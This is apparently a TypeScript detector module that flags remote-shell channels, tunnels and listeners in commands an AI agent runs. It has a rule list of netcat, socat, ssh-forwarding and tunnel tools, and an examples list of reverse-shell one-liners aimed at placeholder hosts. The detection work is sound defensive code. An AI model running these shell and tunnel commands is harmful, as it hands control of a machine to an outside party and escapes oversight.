import type { Analysis, Command } from '../analysis.ts';
import { isInterpreter, isShell, originsOf, toolOf } from '../flow.ts';
import { commandsAt, contactsOf } from '../lookup.ts';
import { hasOption } from '../tools/invocation.ts';
import { type Check, type CheckFinding, finding } from './check.ts';
import { codeFindings } from './code-signals.ts';
import { type CommandRule, findRules } from './rules.ts';

const rules: readonly CommandRule[] = [
  {
    tool: 'nc ncat netcat nc.traditional nc.openbsd nc6',
    anyOption: '--exec --sh-exec --lua-exec',
    severity: 'critical',
    message: 'netcat hands a shell to the other end.',
  },
  {
    tool: 'nc ncat netcat nc.traditional nc.openbsd nc6',
    anyOption: '--listen',
    severity: 'high',
    message: 'netcat waits for a connection from outside.',
  },
  {
    tool: 'socat',
    operand: /^(?:exec|system|shell)[:,]/i,
    severity: 'critical',
    message: 'socat hands a command to the other end.',
  },
  {
    tool: 'socat',
    operand: /^(?:tcp|udp|openssl|sctp)(?:4|6)?-l/i,
    severity: 'high',
    message: 'socat waits for a connection from outside.',
  },
  { tool: 'ssh autossh', anyOption: '-R -D -L -w -W', severity: 'high', message: 'ssh opens a tunnel.' },
  {
    tool: 'ssh autossh',
    value: /^\s*(?:Remote|Local|Dynamic)Forward|^\s*Tunnel\b/i,
    severity: 'high',
    message: 'ssh opens a tunnel.',
  },
  {
    tool: 'tailscale',
    sub: 'up|funnel|serve|ssh|set|login',
    severity: 'high',
    message: 'this machine is reached from outside.',
  },
  {
    tool: 'gs-netcat gsocket blitz reverse-ssh rssh pupy merlin-agent sliver-client wstunnel hans ptunnel udp2raw websocat gost sshuttle devtunnel inlets rathole zrok pagekite serveo expose telebit playit ligolo-ng iodine dnscat dnscat2 pwncat rustcat evil-winrm openvpn wg-quick wg vpnc openconnect strongswan zerotier-cli nebula tor torsocks proxychains proxychains4',
    severity: 'high',
    message: 'a tunnel is opened.',
  },
  {
    tool: 'xterm uxterm rxvt urxvt x-terminal-emulator',
    operand: /^-{1,2}display$/,
    severity: 'high',
    message: 'a terminal is shown elsewhere.',
  },
  {
    tool: 'gdbserver',
    operand: /^(?!localhost|127\.)[\w.:*-]*:\d+$/,
    severity: 'high',
    message: 'a debugger from outside drives a program.',
  },
  {
    tool: 'node nodejs',
    anyOption: '--inspect --inspect-brk',
    value: /^(?:0\.0\.0\.0|\[?::\]?|\*)/,
    severity: 'high',
    message: 'a debugger is opened to the outside.',
  },
  {
    tool: 'busybox',
    sub: 'httpd|telnetd|ftpd|nc|tcpsvd|udpsvd',
    severity: 'medium',
    message: 'a server waits for connections.',
  },
  {
    tool: 'httpd telnetd ftpd tcpsvd udpsvd inetd xinetd',
    severity: 'medium',
    message: 'a server waits for connections.',
  },
  {
    tool: 'java',
    anyOption: '-agentlib:jdwp -Xrunjdwp -Xrunjdwp:transport',
    value: /address=(?:\*|0\.0\.0\.0|\[?::)/,
    severity: 'high',
    message: 'a debugger is opened to the outside.',
  },
  {
    tool: 'ngrok cloudflared chisel frpc bore localtunnel lt',
    severity: 'high',
    message: 'a tunnel is opened from outside to this machine.',
  },
  {
    tool: 'sshd dropbear vncserver x11vnc tailscaled wireguard-go gotty ttyd tmate teleconsole upterm sshx code-server xrdp tigervncserver rustdesk anydesk teamviewer',
    severity: 'high',
    message: 'a way in from outside is opened.',
  },
  { tool: 'code', sub: 'tunnel', severity: 'high', message: 'a tunnel is opened from outside to this machine.' },
  { tool: 'openssl', sub: 's_server', severity: 'high', message: 'openssl waits for a connection from outside.' },
];

export const remoteShellChannel: Check = {
  id: 'remote-shell-channel',
  title: 'A way to control this machine from outside',
  definition: 'Reverse and bound shells, tunnels, listeners, interactive sessions that another machine drives.',
  why: 'It is no longer the agent that acts, but whoever is at the other end.',
  attack: ['T1095', 'T1572'],
  cwe: ['CWE-912'],
  severities: {
    critical: 'a shell is connected to a network channel',
    high: 'tunnels and listeners',
    medium: 'a server that waits for connections',
  },
  instead: 'There is no safe form of this inside the sandbox.',
  examples: {
    flagged: [
      'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1',
      'ssh -R 8080:localhost:80 h',
      'nc -e /bin/sh h 4444',
      'rm -f f; mkfifo f; cat f | sh -i 2>&1 | nc h 4444 > f',
      'socat exec:sh tcp:h:4444',
      'nc -lvp 4444',
      'exec 5<>/dev/tcp/h/1; cat <&5 | sh',
      'python3 -c \'import socket,subprocess,os; s=socket.socket(); s.connect(("h",1)); subprocess.call(["sh"])\'',
      'ngrok tcp 22',
      'sh -i < /dev/tcp/1.2.3.4/9 > /dev/tcp/1.2.3.4/9',
      'ssh -o RemoteForward="9 localhost:22" h',
      'tailscale funnel 3000',
      'node --inspect=0.0.0.0:9229 a.js',
      'socat - TCP-LISTEN:4444,reuseaddr',
    ],
    clean: ['exec 3>log.txt; echo hi >&3; exec 3>&-', 'ssh-keygen -l -f key.pub', 'mkfifo p', 'cat f | grep nc'],
  },
  find(analysis) {
    return [
      ...findRules(analysis, rules),
      ...analysis.commands.flatMap((command) => connected(analysis, command)),
      ...codeFindings(analysis, 'code-channel', 'critical').filter(
        ({ command }) => command !== null && contactsOf(analysis, command).length > 0,
      ),
      ...analysis.accesses.flatMap((access): CheckFinding[] =>
        CHANNEL.test(access.path ?? '')
          ? [finding('high', access, 'A connection is used as a file.', access.command)]
          : [],
      ),
      ...inlineSockets(analysis),
    ];
  },
};

const CHANNEL = /^\/dev\/(?:tcp|udp)\//;

/** A shell whose input or output is a connection. */
function connected(analysis: Analysis, command: Command): CheckFinding[] {
  if (!isInterpreter(command)) return [];
  // A wrapper (`nohup`, `exec`) stands in the same place as what it starts, and holds its redirects.
  const places = commandsAt(analysis, command.range);
  const redirected = [command, ...places].some((other) =>
    other.redirects.some((redirect) => CHANNEL.test(redirect.target?.text ?? redirect.target?.prefix ?? '')),
  );
  if (redirected) return [finding('critical', command, 'A shell is connected to the network.', command)];
  const socketOpened = analysis.signals.some((signal) => signal.kind === 'builtin-socket');
  const fromDescriptor = originsOf([command]).some((origin) =>
    origin.redirects.some(
      (redirect) =>
        (redirect.operator === '<&' && CHANNEL.test(redirect.target?.text ?? redirect.target?.prefix ?? '')) ||
        (redirect.kind === 'duplicate' &&
          /^\d+$/.test(redirect.target?.text ?? '') &&
          Number(redirect.target?.text) > 2),
    ),
  );
  if (socketOpened && fromDescriptor)
    return [finding('critical', command, 'A shell reads from a connection that was opened before.', command)];
  const feeds = isShell(command) && sendersOf(analysis).has(command);
  const fed =
    isShell(command) &&
    originsOf([command]).some((origin) => ['nc', 'ncat', 'netcat', 'telnet', 'socat'].includes(toolOf(origin)));
  if (feeds || (fed && !hasOption(command.invocation, '-c')))
    return [finding('critical', command, 'A shell is piped to or from a network client.', command)];
  return [];
}

const CLIENTS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'openssl']);
const senders = new WeakMap<Analysis, ReadonlySet<Command>>();

/** Commands whose output reaches a network client. */
function sendersOf(analysis: Analysis): ReadonlySet<Command> {
  const known = senders.get(analysis);
  const found = known ?? new Set(originsOf(analysis.commands.filter((command) => CLIENTS.has(toolOf(command)))));
  if (known === undefined) senders.set(analysis, found);
  return found;
}

/** Code of another language that opens a connection and starts programs. */
function inlineSockets(analysis: Analysis): CheckFinding[] {
  return analysis.signals.flatMap((signal): CheckFinding[] => {
    if (signal.kind !== 'inline-code' || signal.command === null) return [];
    const text = signal.command.args.map((field) => field.text ?? '').join(' ');
    const network = /socket|TCPSocket|net\.(?:connect|Socket)|fsockopen|IO::Socket|Socket\s*;|createConnection/.test(
      text,
    );
    const shell = /subprocess|os\.dup2|pty\.spawn|child_process|exec|system|\/bin\/(?:ba)?sh/.test(text);
    return network && shell
      ? [finding('critical', signal, 'The code connects a shell to the network.', signal.command)]
      : [];
  });
}
